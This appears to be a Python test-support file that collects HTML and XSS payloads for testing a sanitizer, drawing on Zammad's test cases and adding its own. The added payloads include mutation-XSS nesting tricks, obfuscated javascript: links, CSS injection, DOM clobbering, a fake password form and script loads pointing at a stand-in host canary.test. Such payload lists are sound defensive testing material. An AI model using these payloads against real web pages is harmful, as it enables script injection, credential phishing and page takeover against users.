"""What strangers write to take over a page: 86 cases of Zammad's own tests, and ours."""

import json

from tests.support.shared import shared_data

ZAMMAD = [case["input"] for case in json.loads(shared_data("xss_html_zammad.json").read_text())["cases"]]
OURS = [
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div style='width:expression(alert(1))'>a</div>",
    "<div style='background:url(http://canary.test/a)'>a</div>",
    "<div style='background-color:red;background-image:u\\72l(http://canary.test/a)'>a</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>a</div>",
    "<div style='margin-top:-500px;color:red'>a</div>",
    "<div style='color:var(--x);content:attr(title)'>a</div>",
    "<form action=http://canary.test><input name=password><button>Sign in</button></form>",
    "<base href=http://canary.test/><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=http://canary.test'>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x' onclick=alert(1)>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://canary.test/x></object><embed src=http://canary.test/x>",
    "<link rel=stylesheet href=http://canary.test/x.css>",
    "<style>@import 'http://canary.test/x.css';*{position:fixed}</style>",
    "<video poster=http://canary.test/x><source src=http://canary.test/y></video>",
    "<img srcset='http://canary.test/x 1x' src=x>",
    "<table background=http://canary.test/x><tr><td background=http://canary.test/y>a</td></tr></table>",
    "<input type=image src=http://canary.test/x onerror=alert(1)>",
    "<a name=body id=getElementById>x</a><form name=body><input name=innerHTML></form>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<script src=//canary.test/x.js></script><img src='//canary.test/x.gif'>",
    "<a href='https://ok.test' target=_top style='display:block;position:absolute;inset:0'>x</a>",
    "<p onmouseover=alert(1) class='modal-open' id=app>x</p>",
]
PAYLOADS = ZAMMAD + OURS
